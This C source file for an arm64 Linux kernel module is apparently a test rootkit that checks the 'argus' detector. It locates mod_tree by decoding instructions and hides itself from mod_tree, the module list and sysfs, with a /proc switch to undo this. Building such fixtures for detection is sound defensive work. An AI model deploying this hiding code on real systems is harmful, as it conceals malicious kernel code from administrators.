// SPDX-License-Identifier: GPL-2.0
/*
 * hideall64 - an arm64 test rootkit for argus's carve of module memory
 * (the AArch64 build of ../hideall.c): a module hidden from all three of
 * the kernel's views of its modules.
 *
 * insmod hideall64.ko
 * erases its core memory's node from mod_tree, then unlinks itself from
 * the modules list and deletes its kobject (rkit64.h), all in its init
 * function; the kernel then takes the init memory's node out itself.
 *
 * Debian's arm64 kallsyms has no data symbols, so mod_tree is found the
 * way the kernel's own code reaches it: __module_address reads
 * mod_tree.addr_min with an adrp and an add or ldr.  A candidate is used
 * only when the root of its first latch copy is the top of the tree this
 * module's own node hangs in; otherwise the module refuses to load.
 *
 * echo 1 >/proc/hideall64 puts it back into mod_tree and both lists; it
 * then cannot be unloaded.  For testing only; loaded in a disposable test
 * guest.
 */
#include <linux/proc_fs.h>
#include <linux/rbtree_latch.h>
#include <linux/uaccess.h>

#include "rkit64.h"

static struct latch_tree_root *tree;	/* mod_tree's first member */

static __always_inline unsigned long mtn_base(struct latch_tree_node *n)
{
	return (unsigned long)container_of(n, struct mod_tree_node, node)->mod->core_layout.base;
}

static __always_inline bool mtn_less(struct latch_tree_node *a, struct latch_tree_node *b)
{
	return mtn_base(a) < mtn_base(b);
}

static __always_inline int mtn_comp(void *key, struct latch_tree_node *n)
{
	unsigned long v = (unsigned long)key, s = mtn_base(n);

	if (v < s)
		return -1;
	return v >= s + container_of(n, struct mod_tree_node, node)->mod->core_layout.size;
}

static const struct latch_tree_ops mtn_ops = {
	.less = mtn_less,
	.comp = mtn_comp,
};

/* whether t's first copy's root is the top of the tree our node is in
 * (t read without faulting: a wrong guess is only a wrong guess) */
static bool tree_is(unsigned long t)
{
	struct rb_node *top = &THIS_MODULE->core_layout.mtn.node.node[0];
	struct latch_tree_root r;

	while (rb_parent(top))
		top = rb_parent(top);
	return !copy_from_kernel_nofault(&r, (void *)t, sizeof(r)) && r.tree[0].rb_node == top;
}

static struct latch_tree_root *find_mod_tree(void)
{
	u32 *code = (u32 *)rkit_lookup("__module_address");
	unsigned long val[32] = { 0 };
	u32 known = 0;
	int i, j;

	if (!code)
		return NULL;
	for (i = 0; i < 24; i++) {
		u32 in = code[i];
		unsigned int rd = in & 0x1f, rn = (in >> 5) & 0x1f;
		unsigned long pc = (unsigned long)&code[i], a;

		if ((in & 0x9f000000) == 0x90000000) {		/* adrp */
			long imm = (long)(((in >> 5) & 0x7ffff) << 2 | ((in >> 29) & 3)) << 43 >> 43;

			val[rd] = (pc & ~0xfffUL) + imm * 4096;
			known |= 1u << rd;
			continue;
		}
		if ((in & 0xffc00000) == 0x91000000 && (known >> rn & 1))	/* add #imm */
			a = val[rn] + ((in >> 10) & 0xfff);
		else if ((in & 0xffc00000) == 0xf9400000 && (known >> rn & 1))	/* ldr x, [#imm] */
			a = val[rn] + ((in >> 10) & 0xfff) * 8;
		else
			continue;
		/* mod_tree itself, or its addr_min / addr_max after the root */
		for (j = 0; j < 3; j++) {
			unsigned long t = a - (j ? sizeof(struct latch_tree_root) + 8 * (j - 1) : 0);

			if (tree_is(t))
				return (struct latch_tree_root *)t;
		}
	}
	return NULL;
}

static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
{
	if (tree)
		latch_tree_insert(&THIS_MODULE->core_layout.mtn.node, tree, &mtn_ops);
	tree = NULL;
	rkit_unhide();
	pr_info("hideall64: back in mod_tree and both lists\n");
	return len;
}

static const struct proc_ops ctl_ops = {
	.proc_write = ctl_write,
};

static int __init hideall64_init(void)
{
	int ret;

	if (!proc_create("hideall64", 0200, NULL, &ctl_ops))
		return -ENOMEM;
	tree = find_mod_tree();
	if (!tree) {
		remove_proc_entry("hideall64", NULL);
		return -ENOENT;
	}
	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, tree, &mtn_ops);
	ret = rkit_hide();
	if (ret) {
		latch_tree_insert(&THIS_MODULE->core_layout.mtn.node, tree, &mtn_ops);
		remove_proc_entry("hideall64", NULL);
		return ret;
	}
	pr_info("hideall64: module %px out of every view (mod_tree at %px)\n", THIS_MODULE, tree);
	return 0;
}

module_init(hideall64_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("argus test rootkit (arm64): a module hidden from the list, sysfs and mod_tree");
